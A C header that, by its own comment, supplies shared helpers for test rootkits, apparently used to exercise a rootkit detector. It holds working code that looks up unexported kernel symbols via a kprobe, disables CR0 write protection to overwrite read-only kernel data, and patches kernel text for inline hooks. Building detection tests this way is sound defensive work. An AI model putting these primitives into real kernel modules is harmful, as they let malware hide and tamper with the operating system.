// Shared by the test rootkits: how real rootkits reach symbols the kernel no longer
// exports and write its read-only data.
#pragma once

#include <linux/kprobes.h>
#include <asm/special_insns.h>

// kallsyms_lookup_name (unexported since 5.7) found through a kprobe on it; 0 when
// it cannot be.
static inline unsigned long nfm_rk_lookup(const char* name) {
  struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
  unsigned long (*lookup)(const char*);
  if (register_kprobe(&kp) < 0) return 0;
  lookup = (void*)kp.addr;
  unregister_kprobe(&kp);
  return lookup(name);
}

static inline void nfm_rk_cr0_write(unsigned long value) {
  asm volatile("mov %0, %%cr0" : "+r"(value) : : "memory");
}

// *slot = value, with CR0.WP lifted for the write (write_cr0() would pin WP back).
static inline void nfm_rk_write_protected(void** slot, void* value) {
  unsigned long cr0 = read_cr0();
  nfm_rk_cr0_write(cr0 & ~X86_CR0_WP);
  *slot = value;
  nfm_rk_cr0_write(cr0);
}

// Copies `n` bytes over kernel text (read-only, executable) with CR0.WP lifted and
// interrupts off, as inline-hooking rootkits do.
static inline void nfm_rk_write_text(void* at, const void* bytes, size_t n) {
  unsigned long flags, cr0;
  size_t i;
  local_irq_save(flags);
  cr0 = read_cr0();
  nfm_rk_cr0_write(cr0 & ~X86_CR0_WP);
  for (i = 0; i < n; ++i) ((volatile unsigned char*)at)[i] = ((const unsigned char*)bytes)[i];
  nfm_rk_cr0_write(cr0);
  local_irq_restore(flags);
}
